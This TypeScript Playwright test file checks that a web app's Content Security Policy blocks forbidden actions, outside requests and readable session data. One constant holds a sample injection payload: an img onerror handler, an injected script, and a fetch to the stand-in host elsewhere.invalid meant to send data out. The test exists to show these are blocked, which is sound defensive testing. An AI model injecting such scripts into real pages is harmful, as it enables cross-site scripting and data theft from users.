import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { demoPassword } from './server.ts'
import { typeCredentials } from './sign-in-steps.ts'
import { newcomer, setStage, soon, walk, type Visitor } from './stage.ts'

const stage = setStage()

/** Notes in `violations` what the browser forbids its pages, frames in them included. */
async function watched(role?: string): Promise<Visitor & { violations: string[]; elsewhere: string[] }> {
  const visitor = await newcomer(stage, { role })
  const [violations, elsewhere]: [string[], string[]] = [[], []]
  visitor.context.on('console', (message) => { if (/content.security.policy|refused to/i.test(message.text())) violations.push(`${message.page()?.url()}: ${message.text()}`) })
  visitor.context.on('request', (request) => { if (!/^(data|blob|about):/.test(request.url()) && !request.url().startsWith(`${stage.url}/`)) elsewhere.push(request.url()) })
  return { ...visitor, violations, elsewhere }
}

async function signIn(page: Page): Promise<void> {
  await page.goto(stage.url)
  await typeCredentials(page, 'administrator@demo.balie.test', demoPassword)
  await page.getByRole('navigation').waitFor(soon)
}

test('no page before the sign-in does what the content policy forbids', async () => {
  const visitor = await watched()
  await walk(stage, visitor, ['/', '/login', '/forgot-password', '/password-resets/gone?email=a%40b.test', '/two-step/gone', '/no/such/page'], async (page) => {
    expect.soft(await page.getByRole('heading').count(), page.url()).toBeGreaterThan(0)
  })
  expect([visitor.violations, visitor.elsewhere]).toEqual([[], []])
})

test('nor does any page of the navigation, the preview of a mail, or the documentation', async () => {
  const visitor = await watched()
  const { page } = visitor
  await signIn(page)
  const links = await page.getByRole('navigation').getByRole('link').evaluateAll((all) => all.map((link) => link.getAttribute('href') ?? ''))
  expect(links.length).toBeGreaterThan(5)
  await walk(stage, visitor, new Set([...links, '/account', '/account/sessions'].filter((link) => link.startsWith('/'))), async (tab) => {
    expect.soft(await tab.getByRole('heading').count(), tab.url()).toBeGreaterThan(0)
  })
  // A mail is drawn in a frame, which inherits the policy of the page.
  await page.goto(`${stage.url}/email-translations/1`)
  await page.frameLocator('iframe').first().locator('p').first().waitFor(soon)
  await page.goto(`${stage.url}/api/docs`)
  await page.getByText('POST').first().waitFor(soon)
  expect([visitor.violations, visitor.elsewhere]).toEqual([[], []])
})

/** What an attacker would try who could write into a page of ours. */
const intruder = `(async () => {
  const holder = document.createElement('div')
  holder.innerHTML = '<img src=x onerror="window.ran = 1">'
  document.body.append(holder)
  const script = document.createElement('script')
  script.textContent = 'window.ran = 2'
  document.body.append(script)
  const sent = await fetch('https://elsewhere.invalid/', { mode: 'no-cors' }).then(() => 'sent', () => 'held back')
  return { ran: window.ran ?? 'nothing', sent }
})()`

test('a script that got into a page does not run, and cannot send anything away', async () => {
  const { page, violations } = await watched('administrator')
  await page.goto(stage.url)
  await page.getByRole('navigation').waitFor(soon)
  const outcome = await page.evaluate<{ ran: unknown; sent: string }>(intruder)
  expect(outcome).toEqual({ ran: 'nothing', sent: 'held back' })
  await expect.poll(() => violations.length).toBeGreaterThanOrEqual(3) // so the two tests above would see one
})

test('no script reads the session, and the storage holds no data of a client', async () => {
  const { page } = await watched()
  await signIn(page)
  await page.goto(`${stage.url}/calendar`, { waitUntil: 'networkidle' })
  const kept = await page.evaluate<{ cookie: string; storage: string }>('({ cookie: document.cookie, storage: JSON.stringify({ ...localStorage, ...sessionStorage }) })')
  expect(kept.cookie).toBe('')
  expect(kept.storage).not.toMatch(/@|birthdate|balie=|remarks/)
})
